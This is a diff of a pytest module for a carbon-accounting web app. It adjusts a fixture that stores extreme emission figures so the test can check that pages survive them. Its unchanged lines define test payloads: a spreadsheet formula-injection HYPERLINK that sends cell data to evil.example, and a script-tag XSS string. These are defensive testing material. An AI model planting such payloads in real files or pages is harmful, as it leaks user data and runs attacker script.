@@ -15,15 +15,16 @@ from pathlib import Path
 import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
-from sqlalchemy import Engine, select
+from sqlalchemy import Engine, select, update
 
+from carbonpeak.accounting.engine import TOTAL_COLUMNS
 from carbonpeak.api.app import create_app
 from carbonpeak.demo.province import generate_province, province_activity
 from carbonpeak.services.access import Actor
 from carbonpeak.services.accounting import submit
 from carbonpeak.services.demo import DEMO_PASSWORD, load_province
 from carbonpeak.store.db import make_engine, transaction, upgrade
-from carbonpeak.store.models import Enterprise, User
+from carbonpeak.store.models import AccountResult, Enterprise, User
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 SCRIPT = "</script><script>alert(1)</script>"
@@ -55,12 +56,20 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
     mine = activity[activity["enterprise_id"] == code].copy()
     year = str(mine["period"].max())
     mine = mine[mine["period"] == year]
-    mine.loc[mine.index[0], "amount"] = repr(HUGE)
+    # the largest amount a report may carry (amounts past the world's yearly total are refused
+    # on the way in), then figures far beyond it as a store could hold them from before that
+    # check or from a method still to come: pages must survive both
+    mine.loc[mine.index[0], "amount"] = "9e10"
     with transaction(engine) as session:
         user = session.execute(select(User).where(User.username == "demo-enterprise"))
         actor = Actor.of(user.scalar_one())
         done = submit(session, actor, mine.reset_index(drop=True), "huge.csv")
-    assert done and done[0]["created"]
+        assert done and done[0]["created"]
+        session.execute(
+            update(AccountResult)
+            .where(AccountResult.submission_id == done[0]["submission_id"])
+            .values({column: HUGE for column in TOTAL_COLUMNS})
+        )
     yield Hostile(engine, code, year)
     engine.dispose()
 
